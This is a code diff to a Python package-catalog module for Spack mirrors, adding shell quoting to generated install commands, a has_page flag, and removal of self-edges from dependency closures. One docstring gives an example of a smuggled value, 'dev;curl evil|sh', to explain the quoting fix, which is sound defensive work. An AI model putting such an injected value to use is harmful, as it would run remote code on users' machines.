@@ -10,6 +10,7 @@ hashes raise :class:`~cachedex.errors.LookupFailed` subclasses.
 from __future__ import annotations
 
 import itertools
+import shlex
 from collections import Counter
 from collections.abc import Iterator, Sequence
 from operator import attrgetter
@@ -20,6 +21,7 @@ from ..catalog import Catalog, Edge, MirrorState, SpecSummary
 from ..errors import UnknownPackage, UnknownSpec
 from ..query import Query
 from ..values import ROOT_STACK, decode_variants
+from .files import name_problem
 
 __all__ = [
     "FACETS",
@@ -78,6 +80,7 @@ class PackageRow(msgspec.Struct, frozen=True):
     targets: tuple[str, ...]
     stacks: tuple[str, ...]  #: ``root`` included
     size: int  #: bytes of its specs whose size is known
+    has_page: bool = True  #: False for a name that cannot be a folder name: it has no page to link to
 
 
 class TagPage(msgspec.Struct, frozen=True, tag_field="page", tag="tag"):
@@ -197,6 +200,7 @@ def tag_page(catalog: Catalog, tag: str) -> TagPage:
                 targets=tuple(sorted(values["target"])),
                 stacks=tuple(sorted(values["stack"])),
                 size=size,
+                has_page=name_problem(name) is None,
             )
         )
     return TagPage(row, tuple(packages), {k: dict(sorted(c.items())) for k, c in facets.items()})
@@ -272,12 +276,16 @@ def _package_page(
 
 
 def install_commands(tag: str, stack: str, url: str, dag_hash: str) -> str:
-    """The shell commands that install ``dag_hash`` from the mirror ``url``."""
+    """The shell commands that install ``dag_hash`` from the mirror ``url``.
+
+    Users paste them into a shell, and names and URLs come from mirrors and config
+    files (a remote ``tags_from`` file among them): every value is shell-quoted, so a
+    name like ``dev;curl evil|sh`` stays one argument. Plain names are left as they are."""
     mirror = f"{tag}-{stack}" if stack != ROOT_STACK else tag
     return (
-        f"spack mirror add {mirror} {url}\n"
+        f"spack mirror add {shlex.quote(mirror)} {shlex.quote(url)}\n"
         "spack buildcache keys --install --trust\n"
-        f"spack install --cache-only /{dag_hash}"
+        f"spack install --cache-only {shlex.quote('/' + dag_hash)}"
     )
 
 
@@ -290,7 +298,9 @@ def spec_page(catalog: Catalog, dag_hash: str) -> SpecPage:
         spec,
         holders=[Holder(t, s, listed, url) for t, s, listed, url in catalog.holders(dag_hash)],
         dependencies=catalog.edges_of(dag_hash),
-        closure=catalog.closure(dag_hash),
+        # A spec is not its own dependency, even when an index says so (an edge to
+        # itself, or a cycle back to it): in its closure it would count twice.
+        closure=[edge for edge in catalog.closure(dag_hash) if edge.hash != dag_hash],
         dependents=[e for e in catalog.edges_of(dag_hash, reverse=True) if e.listed],
         node=catalog.node(dag_hash) or "{}",
     )
